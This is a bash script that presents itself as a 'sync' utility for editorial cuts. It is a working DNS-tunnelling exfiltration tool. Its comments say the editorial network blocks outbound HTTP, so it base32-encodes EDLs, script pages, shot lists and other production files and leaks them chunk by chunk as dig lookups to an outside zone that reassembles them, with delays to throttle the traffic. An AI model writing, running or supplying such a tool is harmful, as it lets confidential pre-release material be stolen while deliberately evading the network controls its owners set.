#!/usr/bin/env bash
# edl_dns_relay.sh - "sync" the latest editorial cut to the offsite tracker.
#
# The editorial VLAN has no outbound HTTP, only the resolver.  This pushes the
# current EDLs, shot lists and script pages out as DNS lookups against a zone
# whose authoritative server reassembles them.
set -uo pipefail

CUT_DIR="${CUT_DIR:-/mnt/editorial/current_cut}"
ZONE="${RELAY_ZONE:-t.relay.example.net}"
CHUNK=60
DELAY="${RELAY_DELAY:-0.2}"
LOG="${RELAY_LOG:-./edl_relay.log}"
PATTERNS=("*.edl" "*.xml" "*.aaf" "*.fdx" "*.pdf" "*.csv")

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

usage() { echo "usage: $0 [-d cut_dir] [-z zone] [-s delay]" >&2; }

while getopts "d:z:s:h" opt; do
  case "$opt" in
    d) CUT_DIR="$OPTARG" ;;
    z) ZONE="$OPTARG" ;;
    s) DELAY="$OPTARG" ;;
    h) usage; exit 0 ;;
    *) usage; exit 2 ;;
  esac
done

[[ -d "$CUT_DIR" ]] || { echo "no cut dir $CUT_DIR" >&2; exit 1; }
command -v dig >/dev/null || { echo "dig not installed" >&2; exit 1; }

# Split a file into DNS-safe labels: base32, lowercase, no padding.
encode_chunks() {
  RELAY_FILE="$1" RELAY_CHUNK="$CHUNK" python3 - <<'PY'
import base64, os, sys
path = os.environ["RELAY_FILE"]
size = int(os.environ["RELAY_CHUNK"])
try:
    with open(path, "rb") as fh:
        data = fh.read()
except OSError as exc:
    sys.exit(f"read failed: {exc}")
enc = base64.b32encode(data).decode().rstrip("=").lower()
for i in range(0, len(enc), size):
    print(enc[i:i + size])
PY
}

file_id() {
  printf '%s' "$1" | md5sum | cut -c1-8
}

send_file() {
  local path="$1" fid seq=0 total chunk
  fid="$(file_id "$path")"
  mapfile -t chunks < <(encode_chunks "$path")
  total="${#chunks[@]}"
  if (( total == 0 )); then
    log "skip empty $path"
    return 0
  fi
  # announce: name and chunk count
  dig +short +tries=1 +time=2 \
    "$(basename "$path" | tr -c 'a-zA-Z0-9-' '-' | cut -c1-50).$total.$fid.n.$ZONE" A >/dev/null
  for chunk in "${chunks[@]}"; do
    dig +short +tries=1 +time=2 "$chunk.$seq.$fid.d.$ZONE" A >/dev/null
    seq=$((seq + 1))
    sleep "$DELAY"
  done
  log "sent $path as $fid ($total chunks)"
}

main() {
  local sent=0 pat f
  for pat in "${PATTERNS[@]}"; do
    while IFS= read -r -d '' f; do
      if send_file "$f"; then
        sent=$((sent + 1))
      else
        log "failed $f"
      fi
    done < <(find "$CUT_DIR" -type f -name "$pat" -print0)
  done
  log "relay finished: $sent file(s)"
  echo "relayed $sent file(s) via $ZONE"
}

main
